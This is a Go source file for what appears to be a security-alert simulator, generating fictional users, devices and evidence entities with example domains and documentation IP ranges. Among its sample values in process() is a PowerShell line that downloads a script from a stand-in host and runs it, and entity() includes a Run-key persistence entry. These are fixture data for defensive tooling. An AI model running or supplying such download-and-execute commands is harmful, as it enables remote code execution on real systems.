// SPDX-License-Identifier: Apache-2.0

package defendersim

import (
	"fmt"
	"time"
)

// mailDomain and host names lie in an example domain, addresses in the three
// ranges that are set aside for documentation.
const mailDomain = "contoso.example"

// person is somebody who appears again and again in the population.
type person struct {
	account, sid, id, principal, display string
}

func newPeople(d dice) []person {
	names := []struct{ account, display string }{
		{"jdoe", "Jane Doe"},
		{"mmuster", "Max Mustermann"},
		{"zmueller", "Zoë Müller"},
		{"tyamada", "山田 太郎"},
		{"asmith", "Alex\u200b Smith"}, // zero-width space
		{"svc-backup", "svc-backup"},
		{"oconnor", "Pat O'Connor"},
		{"lnovak", "Lucie Nováková"},
	}
	people := make([]person, len(names))
	for n, name := range names {
		people[n] = person{
			account:   name.account,
			sid:       fmt.Sprintf("S-1-5-21-1111111111-2222222222-3333333333-%d", 1100+n),
			id:        d.guid(),
			principal: name.account + "@" + mailDomain,
			display:   name.display,
		}
	}
	return people
}

func newDevices(d dice, people []person, before time.Time) []Device {
	devices := make([]Device, 60)
	for n := range devices {
		devices[n] = newDevice(d, n+1, people, before)
	}
	return devices
}

func newDevice(d dice, number int, people []person, before time.Time) Device {
	device := Device{
		ID:             d.digest(40),
		DNSName:        fmt.Sprintf("ws-%03d.%s", number, mailDomain),
		OSPlatform:     pick(d, []string{"Windows11", "Windows10", "WindowsServer2022", "Linux", "macOS", "iOS"}),
		Version:        pick(d, []string{"23H2", "22H2", "21H2", "Other"}),
		HealthStatus:   pick(d, []string{"Active", "Inactive", "ImpairedCommunication", "NoSensorData"}),
		RiskScore:      pick(d, []string{"None", "Informational", "Low", "Medium", "High"}),
		FirstSeen:      d.coarse(d.between(before.AddDate(-1, 0, 0), before)),
		DefenderStatus: pick(d, []string{"Updated", "NotUpdated", "NotSupported", "Unknown"}),
		Onboarding:     pick(d, []string{"Onboarded", "CanBeOnboarded", "Unsupported"}),
	}
	if d.chance(0.6) {
		device.AADDeviceID = d.guid()
	}
	if d.chance(0.8) {
		device.OSProcessor = pick(d, []string{"x64", "arm64"})
	}
	if d.chance(0.8) {
		device.OSBuild = pick(d, []int64{22631, 19045, 20348, 26100})
	}
	if d.chance(0.7) {
		device.RBACGroup = pick(d, []string{"Workstations", "Servers", "Geschäftsführung"})
	}
	if d.chance(0.4) {
		device.Tags = []string{pick(d, []string{"finance", "kiosk", "Prüfstand"})}
	}
	if d.chance(0.15) {
		device.VM = newVM(d)
	}
	for range d.IntN(3) {
		device.LoggedOnUsers = append(device.LoggedOnUsers, Account{pick(d, people).account, "CONTOSO"})
	}
	return device
}

func newVM(d dice) *VM {
	id, subscription := d.guid(), d.guid()
	return &VM{
		ID:             id,
		CloudProvider:  pick(d, []string{"Azure", "AWS"}),
		ResourceID:     "/subscriptions/" + subscription + "/resourceGroups/rg-example/providers/Microsoft.Compute/virtualMachines/vm-1",
		SubscriptionID: subscription,
	}
}

func address(d dice) string {
	return fmt.Sprintf("%s.%d", pick(d, []string{"192.0.2", "198.51.100", "203.0.113"}), 1+d.IntN(254))
}

// entity generates a piece of evidence of the given type.
func (p *population) entity(d dice, kind string, created time.Time) Entity {
	e := Entity{
		Type:              kind,
		EvidenceCreated:   d.coarse(created),
		Verdict:           pick(d, p.words.verdicts),
		RemediationStatus: pick(d, p.words.remediations),
	}
	if d.chance(0.1) {
		e.RemediationDetails = "Entity was not found on the device"
	}
	who := pick(d, p.people)
	switch kind {
	case "User":
		e.Fields = []Field{{"accountName", who.account}, {"userSid", who.sid}, {"aadUserId", who.id}, {"userPrincipalName", who.principal}, {"domainName", pick(d, []string{"CONTOSO", ""})}}
	case "Ip":
		if d.chance(0.95) {
			e.Fields = []Field{{"ipAddress", address(d)}}
		}
	case "Url":
		e.Fields = []Field{{"url", pick(d, []string{"https://login.contoso.example/oauth?a=1&b=2", "download.contoso.example", "http://203.0.113.9/a.ps1"})}}
	case "File":
		e.Fields = append(p.file(d), Field{"detectionStatus", "Detected"}, Field{"deviceId", pick(d, p.devices).ID})
	case "Process":
		e.Fields = p.process(d, who, created)
	case "MailBox", "Mailbox":
		e.Fields = []Field{{"userPrincipalName", who.principal}, {"mailboxDisplayName", who.display}, {"mailboxAddress", who.principal}}
	case "MailMessage":
		e.Fields = []Field{{"userPrincipalName", who.principal}, {"sender", "billing@fabrikam.example"}, {"recipient", who.principal}, {"subject", pick(d, []string{"Invoice 4711 überfällig", "RE: your mailbox", "请查看附件"})}, {"internetMessageId", "<" + d.digest(24) + "@fabrikam.example>"}, {"deliveryAction", pick(d, []string{"Delivered", "Blocked", "DeliveredAsSpam"})}}
	case "MailCluster":
		e.Fields = []Field{{"clusterBy", "Subject;P2SenderDomain;AntiSpamDirection"}, {"clusterByValue", "Invoice;fabrikam.example;1"}, {"emailCount", d.Int64N(500)}}
	case "OAuthApplication":
		e.Fields = []Field{{"applicationId", d.guid()}, {"applicationName", "Example Mail Exporter"}}
	case "Registry":
		e.Fields = []Field{{"registryHive", "HKEY_CURRENT_USER"}, {"registryKey", `Software\Microsoft\Windows\CurrentVersion\Run`}, {"registryValueType", "String"}, {"registryValue", `C:\Users\Public\sample.exe`}}
	case "SecurityGroup":
		e.Fields = []Field{{"securityGroupId", d.guid()}, {"securityGroupName", "Finance Ω"}}
	}
	return e
}

func (p *population) file(d dice) []Field {
	return []Field{{"sha1", d.digest(40)}, {"sha256", d.digest(64)}, {"fileName", pick(d, []string{"sample.exe", "rundll32.exe", "häufig.docm", "a.ps1"})}, {"filePath", pick(d, []string{`C:\Windows\System32`, `C:\Users\Public`, ""})}}
}

func (p *population) process(d dice, who person, created time.Time) []Field {
	return append(p.file(d),
		Field{"processId", 1000 + d.Int64N(30000)},
		Field{"processCommandLine", pick(d, []string{"rundll32.exe shell32.dll,Control_RunDLL", `powershell.exe -nop -c "iwr http://203.0.113.9/a.ps1 | iex"`, "sample.exe --install && del sample.exe"})},
		Field{"processCreationTime", d.coarse(created.Add(-time.Minute))},
		Field{"parentProcessId", 1000 + d.Int64N(30000)},
		Field{"parentProcessCreationTime", d.coarse(created.Add(-2 * time.Minute))},
		Field{"parentProcessFileName", pick(d, []string{"winword.exe", "explorer.exe", "services.exe"})},
		Field{"parentProcessFilePath", pick(d, []string{"", `C:\Program Files\Example`})},
		Field{"detectionStatus", "Detected"},
		Field{"accountName", who.account},
		Field{"domainName", "CONTOSO"},
		Field{"userSid", who.sid},
		Field{"userPrincipalName", who.principal},
		Field{"deviceId", pick(d, p.devices).ID})
}
